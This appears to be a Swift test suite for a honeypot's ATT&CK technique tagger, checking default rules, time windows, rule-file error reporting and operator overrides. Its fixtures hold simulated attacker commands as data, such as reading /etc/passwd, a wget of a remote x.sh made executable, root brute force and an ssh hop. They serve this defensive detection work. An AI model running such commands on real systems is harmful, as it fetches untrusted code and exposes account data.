import DecnetCore
import DecnetTesting
import Foundation
import Testing

@testable import DecnetIntel

/// The TTP rules: the default set maps what the services capture to ATT&CK, an operator's file adds or replaces
/// rules, and a bad file is refused with its file, line and key while the rules before it stay in force.
@Suite struct TTPRuleTests {
    static let start = IdentityClusteringTests.start

    static func event(
        _ id: EventID,
        _ offset: TimeInterval,
        service: ServiceKind = "ssh",
        decky: String = "web01",
        _ fields: [(String, String)] = []
    ) -> HoneypotEvent {
        var event = IdentityClusteringTests.event("198.51.100.23", id, offset, service: service, decky: decky, fields)
        event.time = Self.start.addingTimeInterval(offset)
        return event
    }

    static func command(_ offset: TimeInterval, _ line: String, decky: String = "web01") -> HoneypotEvent {
        let words = line.split(separator: " ", maxSplits: 1).map(String.init)
        var fields = [("command", words[0])]
        if words.count > 1 { fields.append(("args", words[1])) }
        return Self.event(.commandInput, offset, decky: decky, fields)
    }

    /// A scan, a brute force, a shell session with wget, and an ssh to the next host.
    static let scenario: [HoneypotEvent] =
        [
            Self.event(
                .scanDetected,
                0,
                service: "sniffer",
                [("scan_type", "tcp_syn"), ("ports", "1000"), ("tool", "nmap")]
            )
        ]
        + (1...6).map { Self.event(.loginFailed, 10 + Double($0), [("username", "root"), ("password", "guess\($0)")]) }
        + [
            Self.event(.loginSuccess, 20, [("username", "root"), ("password", "toor")]),
            Self.command(25, "uname -a"), Self.command(30, "id"), Self.command(34, "cat /etc/passwd"),
            Self.command(40, "wget http://198.51.100.77/x.sh"), Self.command(48, "chmod +x x.sh"),
            Self.command(55, "ssh root@10.0.0.21"),
            Self.event(.loginSuccess, 70, decky: "db01", [("username", "root"), ("password", "toor")]),
        ]

    @Test func theDefaultRulesParseAndNameRealTechniques() {
        let rules = TTPRuleSet.standard.rules
        #expect(rules.count >= 35)
        #expect(Set(rules.map(\.id)).count == rules.count)
        #expect(rules.allSatisfy { AttackCatalogue.technique($0.technique) != nil })
        #expect(AttackCatalogue.techniques.count == 691 && AttackCatalogue.tactics.count == 14)
        #expect(AttackCatalogue.fullName("T1110.001") == "Brute Force: Password Guessing")
        #expect(AttackCatalogue.technique("T1110.001")?.url == "https://attack.mitre.org/techniques/T1110/001/")
        #expect(AttackCatalogue.technique("T1046")?.stixID == "attack-pattern--e3a12395-188d-4051-9a16-ea8e14d07b88")
        #expect(AttackCatalogue.notice.contains("The MITRE Corporation"))
    }

    @Test func aScenarioGetsTheTechniquesItsEventsImply() throws {
        let profile = AttackerProfiler.profile(Self.scenario)
        let tags = TTPRuleSet.standard.tag(Self.scenario, profile: profile)
        let byTechnique = Dictionary(grouping: tags, by: \.technique)
        for expected in [
            "T1046", "T1595", "T1110", "T1078", "T1021.004", "T1059.004", "T1082", "T1033", "T1087.001", "T1105",
            "T1222.002", "T1021",
        ] {
            #expect(byTechnique[expected] != nil, "\(expected) missing from \(tags.map(\.technique))")
        }
        // Each with the rule that fired and the events behind it.
        let brute = try #require(byTechnique["T1110"]?.first)
        #expect(brute.rule == "R0010" && brute.count == 6 && brute.events.count == 6)
        #expect(brute.first == Self.start.addingTimeInterval(15), "fired by its fifth failure")
        let wget = try #require(byTechnique["T1105"]?.first)
        #expect(wget.rule == "R0021" && wget.evidence.contains("wget http://198.51.100.77/x.sh"))
        #expect(wget.tactics == ["Command and Control"])
        let lateral = try #require(byTechnique["T1021.004"])
        #expect(Set(lateral.map(\.rule)) == ["R0014", "R0031"])
        // The profile marks lateral movement where it first shows: the ssh typed on web01, before the login on db01.
        #expect(byTechnique["T1021"]?.first?.evidence == "ssh root@10.0.0.21 on web01")
        // Nothing the events do not show.
        #expect(byTechnique["T1003.008"] == nil && byTechnique["T1496"] == nil)
        #expect(tags.allSatisfy { $0.attack == "18.1" })
        // The same events an hour later: the same tags, an hour later.
        let later = Self.scenario.map { event in
            var event = event
            event.time = event.time.addingTimeInterval(3600)
            return event
        }
        let shifted = TTPRuleSet.standard.tag(later, profile: AttackerProfiler.profile(later))
        #expect(shifted.map(\.technique) == tags.map(\.technique))
        #expect(zip(shifted, tags).allSatisfy { $0.first.timeIntervalSince($1.first) == 3600 })
    }

    @Test func slowFailuresOutsideTheWindowDoNotFire() {
        let slow = (0..<6).map {
            Self.event(.loginFailed, Double($0) * 120, [("username", "root"), ("password", "p\($0)")])
        }
        #expect(!TTPRuleSet.standard.tag(slow).contains { $0.rule == "R0010" })
        let fast = (0..<6).map {
            Self.event(.loginFailed, Double($0) * 30, [("username", "root"), ("password", "p\($0)")])
        }
        #expect(TTPRuleSet.standard.tag(fast).contains { $0.rule == "R0010" })
    }

    @Test func aBadRuleFileIsRefusedWithFileLineAndKey() throws {
        let text = """
            [R9001]
            technique = T9999
            events = login.exploded
            command = ([unclosed
            min_count = many
            colour = red

            [R9002]
            technique = T1059.004
            behaviour = wizard
            """
        let (rules, problems) = TTPRuleSet.parse(text, path: "/etc/decnet/rules/ttp/local.ini")
        #expect(rules.isEmpty)
        let described = problems.map(\.description)
        #expect(
            described.contains {
                $0.hasPrefix("/etc/decnet/rules/ttp/local.ini:2: [R9001] technique:") && $0.contains("T9999")
            }
        )
        #expect(described.contains { $0.hasPrefix("/etc/decnet/rules/ttp/local.ini:3: [R9001] events:") })
        #expect(described.contains { $0.hasPrefix("/etc/decnet/rules/ttp/local.ini:4: [R9001] command:") })
        #expect(described.contains { $0.hasPrefix("/etc/decnet/rules/ttp/local.ini:5: [R9001] min_count:") })
        #expect(described.contains { $0.hasPrefix("/etc/decnet/rules/ttp/local.ini:6: [R9001] colour: unknown key") })
        #expect(described.contains { $0.hasPrefix("/etc/decnet/rules/ttp/local.ini:10: [R9002] behaviour:") })
    }

    /// An operator's directory: a new rule and a replaced default apply; a broken file is left out whole (the
    /// defaults stay); editors' swap and backup files are not read.
    @Test func anOperatorsRulesAddReplaceAndFailSafely() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        try """
        [R9100]
        name = Miner config fetched
        technique = T1496
        events = command.input
        command = config\\.json

        [R0021]
        name = Only curl counts here
        technique = T1105
        events = command.input
        command = ^curl\\s
        confidence = 40
        """.write(toFile: directory.path + "/local.ini", atomically: true, encoding: .utf8)
        try "[R9200]\ntechnique = T0000\n".write(
            toFile: directory.path + "/broken.ini",
            atomically: true,
            encoding: .utf8
        )
        try "[R9300]\ntechnique = T1033\n".write(
            toFile: directory.path + "/.local.ini.swp",
            atomically: true,
            encoding: .utf8
        )
        try "[R9400]\ntechnique = T1033\n".write(
            toFile: directory.path + "/local.ini~",
            atomically: true,
            encoding: .utf8
        )
        let (set, problems) = TTPRuleSet.load(directory: directory.path)
        #expect(problems.count == 1 && problems[0].description.contains("broken.ini:2: [R9200] technique"))
        #expect(set.rules.contains { $0.id == "R9100" })
        #expect(!set.rules.contains { $0.id == "R9200" || $0.id == "R9300" || $0.id == "R9400" })
        #expect(set.rules.count == TTPRuleSet.standard.rules.count + 1)
        let tags = set.tag([Self.command(1, "wget http://x/config.json"), Self.command(2, "curl -O http://x/y")])
        #expect(
            tags.filter { $0.technique == "T1105" }.map(\.rule) == ["R0021"]
                && tags.first { $0.rule == "R0021" }?.confidence == 40
        )
        #expect(tags.first { $0.rule == "R0021" }?.evidence.contains("curl") == true)
        #expect(tags.contains { $0.rule == "R9100" })
    }
}
